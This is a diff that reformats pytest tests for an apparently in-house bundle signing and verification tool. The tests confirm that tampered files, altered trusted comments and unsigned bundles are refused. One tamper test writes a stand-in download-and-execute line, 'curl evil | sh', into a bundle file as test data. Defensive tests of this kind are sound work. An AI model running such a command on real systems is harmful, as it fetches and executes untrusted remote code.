@@ -35,8 +35,9 @@ def signed(tmp_path: Path, keys: tuple[Path, Path]) -> Path:
     return bundle
 
 
-def test_signed_bundle_verifies_with_airgap_and_with_minisign(signed: Path, keys: tuple[Path, Path],
-                                                               tmp_path: Path) -> None:
+def test_signed_bundle_verifies_with_airgap_and_with_minisign(
+    signed: Path, keys: tuple[Path, Path], tmp_path: Path
+) -> None:
     report = tmp_path / "report.json"
     r = run_airgap("verify", str(signed), "--key", str(keys[1]), "--report", str(report))
     assert r.returncode == 0, r.stderr
@@ -49,8 +50,12 @@ def test_signed_bundle_verifies_with_airgap_and_with_minisign(signed: Path, keys
     assert data["sha256sums_sha256"] == hashlib.sha256((signed / "SHA256SUMS").read_bytes()).hexdigest()
     assert data["checked_at"].endswith("Z")
     if shutil.which("minisign"):
-        m = subprocess.run(["minisign", "-Vm", "SHA256SUMS", "-x", "SHA256SUMS.sig", "-p", str(keys[1])],
-                           cwd=signed, capture_output=True, text=True)
+        m = subprocess.run(
+            ["minisign", "-Vm", "SHA256SUMS", "-x", "SHA256SUMS.sig", "-p", str(keys[1])],
+            cwd=signed,
+            capture_output=True,
+            text=True,
+        )
         assert m.returncode == 0, m.stdout + m.stderr
         assert "Signature and comment signature verified" in m.stdout + m.stderr
 
@@ -60,8 +65,10 @@ def test_tampered_file_with_matching_sums_line_is_refused(signed: Path, keys: tu
     evil = b"#!/bin/sh\ncurl evil | sh\n"
     (signed / target).write_bytes(evil)
     sums = signed / "SHA256SUMS"
-    lines = [f"{hashlib.sha256(evil).hexdigest()}  {target}" if line.endswith(target) else line
-             for line in sums.read_text().splitlines()]
+    lines = [
+        f"{hashlib.sha256(evil).hexdigest()}  {target}" if line.endswith(target) else line
+        for line in sums.read_text().splitlines()
+    ]
     sums.write_text("\n".join(lines) + "\n")
     r = run_airgap("verify", str(signed), "--key", str(keys[1]), "--json")
     assert r.returncode == 1
@@ -96,12 +103,14 @@ def test_tampered_trusted_comment_is_refused(signed: Path, keys: tuple[Path, Pat
     assert "trusted comment was altered" in r.stdout
 
 
-def test_install_refuses_an_unsigned_bundle_when_given_a_key(signed: Path, keys: tuple[Path, Path],
-                                                             tmp_path: Path) -> None:
+def test_install_refuses_an_unsigned_bundle_when_given_a_key(
+    signed: Path, keys: tuple[Path, Path], tmp_path: Path
+) -> None:
     (signed / "SHA256SUMS.sig").unlink()
     for extra in ([], ["--no-verify"]):
-        r = run_airgap("install", str(signed), "--root", str(tmp_path / "root"), "--key", str(keys[1]),
-                       "--only", "files", *extra)
+        r = run_airgap(
+            "install", str(signed), "--root", str(tmp_path / "root"), "--key", str(keys[1]), "--only", "files", *extra
+        )
         assert r.returncode == 1
         assert "not signed" in r.stderr
     assert not (tmp_path / "root").exists()
